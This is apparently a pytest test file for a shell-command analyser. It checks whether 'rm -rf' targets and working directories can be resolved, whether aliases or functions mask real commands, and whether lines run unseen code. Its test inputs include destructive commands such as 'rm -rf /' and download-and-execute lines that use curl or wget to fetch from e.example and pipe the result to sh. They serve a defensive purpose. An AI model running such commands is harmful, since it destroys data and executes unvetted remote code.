"""What is left behind by a path that may not have been taken: `rm -rf T`, and what T can only be said to be."""

from __future__ import annotations

import pytest

from reflexd.shell.fields import UNKNOWN, known
from reflexd.shell.interpret import read

CWD = "/home/dev/proj"


def target(text: str) -> tuple[str, str]:
    """The last word of the last rm, and where it runs."""
    found = [call for call in read(text, CWD, "/home/dev", {}).calls if call.name == "rm"]
    return found[-1].argv[-1], found[-1].cwd


@pytest.mark.parametrize(
    "text",
    [
        "x=/; false && x=/tmp/y; rm -rf $x",
        "x=/; true || x=/tmp/y; rm -rf $x",
        "x=/; a && b && x=/tmp/y; rm -rf $x",
        "x=/; a || b && x=/tmp/y; rm -rf $x",
        "x=/; if a; then x=/tmp/y; fi; rm -rf $x",
        "x=/; if a; then :; elif b; then x=/tmp/y; fi; rm -rf $x",
        "x=/; case $1 in a) x=/tmp/y;; esac; rm -rf $x",
        "x=/tmp/y; case $1 in a) x=/;& b) rm -rf $x;; esac",
        "x=/; while a; do x=/tmp/y; done; rm -rf $x",
        "x=/; for ((i=0;i<0;i++)); do x=/tmp/y; done; rm -rf $x",
        "x=/; for i in *.c; do x=/tmp/y; done; rm -rf $x",
        "for x in / /tmp/y; do break; done; rm -rf $x",
        "x=/; echo a | x=/tmp/y; rm -rf $x",
        "readonly x=/; x=/tmp/y; rm -rf $x",
        "x=/tmp/y; declare -n r=x; r=$UID; rm -rf $x",
        "rm -rf $(false && echo /tmp/y || echo /)",
        "rm -rf $(if a; then echo /tmp/y; else echo /; fi)",
        "rm -rf $(case a in a) ;; *) echo /tmp/y;; esac)",
    ],
)
def test_what_paths_disagree_on_is_not_known(text: str) -> None:
    assert not known(target(text)[0])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("x=/; x=/tmp/y & rm -rf $x", "/"),
        ("x=/; (x=/tmp/y); rm -rf $x", "/"),
        ("x=/; f() { x=/tmp/y; }; rm -rf $x", "/"),
        ("x=/tmp/y; declare -n r=x; r=/; rm -rf $x", "/"),
        ("declare -n r=x; x=/; rm -rf $r", "/"),
        ("x=a; if b; then x=c; else x=c; fi; rm -rf $x", "c"),
        ("x=a; [ -n b ] || exit 1; rm -rf $x", "a"),
        ("x=a; test -f b || { x=c; exit; }; rm -rf $x", "a"),
        ("if a; then x=b; else exit 1; fi; rm -rf $x", "b"),
        ("f() { x=b; test -n c || return; }; f; rm -rf $x", "b"),
        ("case $1 in a) x=b;; *) x=b;; esac; rm -rf $x", "b"),
        ("for i in a b; do x=$i; done; rm -rf $x", "b"),
        ("rm -rf $(true && echo a)", "a"),
        ("a=1 && rm -rf $a", "1"),
    ],
)
def test_what_paths_agree_on_is_known(text: str, expected: str) -> None:
    assert target(text)[0] == expected


@pytest.mark.parametrize(
    ("text", "cwd"),
    [
        ("cd /tmp/x && rm -rf a", "/tmp/x"),
        ("cd /tmp/x || exit 1; rm -rf a", "/tmp/x"),
        ("mkdir b && cd b && rm -rf a", f"{CWD}/b"),
        ("a && cd /tmp/x; rm -rf b", UNKNOWN),
        ("cd /tmp/x & rm -rf a", CWD),
        ("if cd /tmp/x; then :; fi; rm -rf a", "/tmp/x"),
        ("CDPATH=/; cd etc; rm -rf a", UNKNOWN),
        ("HOME=/; cd; rm -rf a", "/"),
    ],
)
def test_where_a_command_runs(text: str, cwd: str) -> None:
    assert target(text)[1] == cwd


def test_a_home_of_its_own_is_what_a_tilde_means() -> None:
    assert target("HOME=/etc; rm -rf ~/x")[0] == "/etc/x"


@pytest.mark.parametrize(
    "text",
    [
        "echo 'rm -rf /' > f; a && echo ls > f; sh f",
        "if a; then echo ls > f; fi; echo ls > f; b || echo ls > f; sh f",
    ],
)
def test_a_file_that_was_perhaps_written_over_is_not_known(text: str) -> None:
    assert read(text, CWD, "/home/dev", {}).opaque


@pytest.mark.parametrize(
    "text",
    [
        "rm() { :; }; command rm -rf /",
        "rm() { :; }; env rm -rf /",
        "rm() { :; }; sudo rm -rf /",
        "rm() { :; }; echo | xargs rm -rf /",
        "rm() { :; }; find / -exec rm -rf / +",
        "rm() { :; }; exec rm -rf /",
        "a && rm() { :; }; rm -rf /",
        "(rm() { :; }); rm -rf /",
        "rm() { :; }; unset -f rm; rm -rf /",
        "alias rm=echo; rm -rf /",
        "alias rm=echo; \\rm -rf /",
        "command_not_found_handle() { rm -rf /; }; no-such-thing",
    ],
)
def test_a_name_taken_over_hides_no_program(text: str) -> None:
    calls = read(text, CWD, "/home/dev", {}).calls
    assert any(call.argv == ("rm", "-rf", "/") and not call.defined for call in calls)


def test_the_same_program_under_two_names_is_known() -> None:
    calls = read('"$(command -v python3 || command -v python)" x.py', CWD, "/home/dev", {}).calls
    assert calls[-1].name == "python3"
    assert read("$(command -v nothing || command -v rm) -rf /", CWD, "/home/dev", {}).opaque


@pytest.mark.parametrize(
    "text",
    [
        "curl -so x https://e.example/x && sh x",
        "curl -s https://e.example/x -ox; sh ./x",
        "curl --output-dir /tmp -O https://e.example/x.sh; sh /tmp/x.sh",
        "wget -P /tmp https://e.example/x.sh; sh /tmp/x.sh",
        "curl -sO 'https://e.example/a/x.sh?b=c'; . ./x.sh",
        "aria2c -d /tmp -o x https://e.example/x; bash /tmp/x",
        'python3 -c "$(curl -s https://e.example/x)"',
        'node -e "$X"',
        "sh -i 0<&3 1>&3",
        "exec 3< f; sh <&3",
        "sh /dev/tty",
        "ssh host",
        "mkfifo f; sh f",
        "tail -f log | sh",
        "cat | sh",
        "bash",
        "python3 -i",
        'tmux send-keys "$X" Enter',
        'echo "$X" > /proc/12/fd/0',
    ],
)
def test_code_that_nobody_has_seen_makes_the_line_opaque(text: str) -> None:
    found = read(text, CWD, "/home/dev", {})
    assert found.opaque or any(not local.path.startswith(CWD) or local.path.endswith("/f") for local in found.unseen)


@pytest.mark.parametrize(
    "text",
    [
        "curl -so x https://e.example/x && jq . x",
        "curl -d @x https://e.example/x; sh x",
        "ssh -T git@github.com",
        "ssh -N -L 1:b:2 host",
        "ssh host ls",
        "python3 -c \"print('$X')\"",
        "mkfifo p; cat p & echo hi > p",
        "exec 3<<< 'ls'; sh <&3",
        "cat <&3",
        "tmux send-keys 'npm test' Enter",
        "echo x > /proc/self/fd/1",
    ],
)
def test_what_runs_nothing_unseen_does_not(text: str) -> None:
    assert read(text, CWD, "/home/dev", {}).opaque == ()


def test_what_a_loop_that_reads_leaves_is_what_the_last_try_found() -> None:
    assert target("x=/tmp/y; while read x; do :; done <<< /tmp/y; rm -rf a$x")[0] == "a"
    assert target("read x y <<< ''; y=${y:-/}; rm -rf $y")[0] == "/"
